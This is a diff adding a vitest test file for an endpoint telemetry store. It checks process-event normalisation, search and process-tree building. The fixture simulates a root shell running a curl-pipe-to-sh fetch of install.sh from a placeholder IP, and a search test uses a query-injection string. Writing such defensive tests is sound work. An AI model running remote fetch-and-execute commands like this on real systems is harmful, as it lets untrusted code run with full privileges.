@@ -1,0 +1,99 @@
+// Telemetry from helper messages to history: normalisation (entity ids, parents, ECS fields), batched
+// storage, full-text search, filters, paging and the process tree.
+import { afterEach, describe, expect, it } from 'vitest';
+import { openStore, processTree, type Store } from '../../../../main/core/store/index.js';
+import { BootClock, Normalizer } from '../../../../main/core/sensors/process/normalize.js';
+import { ProcessTable } from '../../../../main/core/sensors/process/process-table.js';
+import type { NewEvent } from '../../../../main/core/store/index.js';
+import { tempDirs } from '../../../helpers/temp.js';
+
+const dirs = tempDirs();
+const stores: Store[] = [];
+afterEach(() => { for (const s of stores.splice(0)) s.close(); dirs.cleanup(); });
+
+const S = 1e9;
+function setup() {
+  const store = openStore(dirs.make(), { language: 'auto', watchFolders: [], autoQuarantine: true, notifyMinSeverity: 'high' }, () => undefined);
+  stores.push(store);
+  const normalizer = new Normalizer(new ProcessTable(), new BootClock(), { sha256: (p) => (p === '/usr/bin/curl' ? 'ab'.repeat(32) : null) });
+  const feed = async (messages: Record<string, unknown>[]) => {
+    const out: NewEvent[] = [];
+    for (const m of messages) { const e = await normalizer.normalize(m as never); if (e) out.push(e); }
+    store.events.insertBatch(out);
+    return out;
+  };
+  return { store, feed };
+}
+
+// A shell (pid 900001, started before Mamori: unknown to /proc too) runs `curl ... | sh`.
+const script = [
+  { type: 'fork', seq: 1, ts_ns: 100 * S, pid: 900002, ppid: 900001, start_ns: 100 * S, uid: 0 },
+  { type: 'exec', seq: 2, ts_ns: 100.01 * S, pid: 900002, tid: 900002, ppid: 900001, start_ns: 100 * S, uid: 0, gid: 0, comm: 'curl',
+    filename: '/usr/bin/curl', argv: ['curl', '-s', 'http://198.51.100.7/install.sh'] },
+  { type: 'connect', seq: 3, ts_ns: 100.02 * S, pid: 900002, tid: 900002, start_ns: 100 * S, uid: 0, comm: 'curl', family: 'inet',
+    daddr: '198.51.100.7', dport: 80, fd: 5, ret: 0 },
+  { type: 'fork', seq: 4, ts_ns: 100.03 * S, pid: 900003, ppid: 900002, start_ns: 100.03 * S, uid: 0 },
+  { type: 'exec', seq: 5, ts_ns: 100.04 * S, pid: 900003, tid: 900003, ppid: 900002, start_ns: 100.03 * S, uid: 0, gid: 0, comm: 'sh',
+    filename: '/bin/sh', argv: ['sh', '-c', "echo 'hello world'"] },
+  { type: 'exit', seq: 6, ts_ns: 100.05 * S, pid: 900003, start_ns: 100.03 * S, exit_code: 7, signal: 0 },
+  { type: 'exit', seq: 7, ts_ns: 100.06 * S, pid: 900002, start_ns: 100 * S, exit_code: 0, signal: 0 },
+  // The pid is reused by a different process later: a different entity.
+  { type: 'fork', seq: 8, ts_ns: 200 * S, pid: 900002, ppid: 900001, start_ns: 200 * S, uid: 1000 },
+];
+
+describe('telemetry history', () => {
+  it('maps helper messages to ECS events with stable entity ids and parents', async () => {
+    const { feed } = setup();
+    const events = await feed(script);
+    const exec = events.find((e) => e.event.action === 'exec' && e.process.pid === 900002)!;
+    expect(exec).toMatchObject({
+      event: { kind: 'process', action: 'exec', sequence: 2 },
+      process: {
+        entity_id: '900002-10000', executable: '/usr/bin/curl', name: 'curl', args: ['curl', '-s', 'http://198.51.100.7/install.sh'],
+        command_line: 'curl -s http://198.51.100.7/install.sh', hash: { sha256: 'ab'.repeat(32) }, parent: { pid: 900001 },
+      },
+      user: { id: 0, name: 'root' },
+    });
+    const sh = events.find((e) => e.event.action === 'exec' && e.process.pid === 900003)!;
+    expect(sh.process.command_line).toBe("sh -c 'echo '\\''hello world'\\'''");
+    expect(sh.process.parent).toMatchObject({ entity_id: '900002-10000', executable: '/usr/bin/curl' });
+    const connect = events.find((e) => e.event.action === 'connect')!;
+    expect(connect).toMatchObject({ event: { kind: 'network' }, destination: { ip: '198.51.100.7', port: 80 }, network: { type: 'ipv4' },
+      process: { entity_id: '900002-10000', executable: '/usr/bin/curl' } });
+    const exits = events.filter((e) => e.event.action === 'exit');
+    expect(exits.map((e) => [e.process.entity_id, e.process.exit_code])).toEqual([['900003-10003', 7], ['900002-10000', 0]]);
+    expect(events.at(-1)!.process.entity_id).toBe('900002-20000');
+  });
+
+  it('searches command lines by words and prefixes, filters by kind and time, newest first, with paging', async () => {
+    const { store, feed } = setup();
+    await feed(script);
+    // curl's exec, its connect, the fork of its child (still curl's image) and its exit, newest first.
+    expect(store.events.search({ text: 'install.sh', limit: 10, offset: 0 }).items.map((e) => e.event.action)).toEqual(['exit', 'fork', 'connect', 'exec']);
+    expect(store.events.search({ text: '198.51.100', limit: 10, offset: 0 }).items).toHaveLength(4);
+    expect(store.events.search({ text: 'hello', limit: 10, offset: 0 }).items.map((e) => e.process.pid)).toEqual([900003, 900003]);
+    expect(store.events.search({ kind: 'network', limit: 10, offset: 0 }).items).toHaveLength(1);
+    const all = store.events.search({ limit: 3, offset: 0 });
+    expect(all.items[0]!.event.sequence).toBe(8);
+    expect(all.nextOffset).toBe(3);
+    expect(store.events.search({ limit: 10, offset: 6 }).nextOffset).toBeNull();
+    const t = all.items[0]!['@timestamp'];
+    expect(store.events.search({ until: new Date(Date.parse(t) - 1000).toISOString(), limit: 10, offset: 0 }).items).toHaveLength(7);
+    // FTS syntax in the user's text is neutralised, never an error.
+    expect(store.events.search({ text: 'curl" OR NEAR(', limit: 10, offset: 0 }).items).toEqual([]);
+  });
+
+  it('builds the process tree: children, what each did, exit codes, ancestors known only by pid', async () => {
+    const { store, feed } = setup();
+    await feed(script);
+    const tree = processTree(store.events, '900002-10000')!;
+    expect(tree.process).toMatchObject({ pid: 900002, executable: '/usr/bin/curl', exit_code: 0, user: 'root' });
+    expect(tree.process.activity.map((e) => e.event.action)).toEqual(['connect']);
+    expect(tree.process.children).toHaveLength(1);
+    expect(tree.process.children[0]).toMatchObject({ pid: 900003, command_line: "sh -c 'echo '\\''hello world'\\'''", exit_code: 7 });
+    expect(tree.ancestors).toEqual([expect.objectContaining({ pid: 900001 })]);
+    // By pid: the newest process with it (the reused pid), not the old one.
+    expect(processTree(store.events, '900002')!.process.entity_id).toBe('900002-20000');
+    expect(processTree(store.events, '424242')).toBeNull();
+  });
+});
